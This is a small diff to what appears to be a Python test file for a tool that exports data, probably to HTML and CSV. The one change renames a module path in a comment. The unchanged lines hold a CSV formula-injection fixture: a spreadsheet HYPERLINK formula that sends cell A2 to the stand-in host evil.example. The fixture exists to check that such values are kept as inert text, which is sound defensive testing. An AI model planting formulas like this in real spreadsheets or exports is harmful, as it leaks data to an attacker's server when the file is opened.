@@ -32,7 +32,7 @@ def hostile_page(body: bytes) -> bytes:
     return body.replace(b"<td>Arena Eyde</td>", hostile.encode())
 
 
-# A cluster name a spreadsheet would run: a CSV cell must hold it as text (ecei.csv_cells)
+# A cluster name a spreadsheet would run: a CSV cell must hold it as text (ecei.outputs.csv_cells)
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Arena Eyde")'
 
 
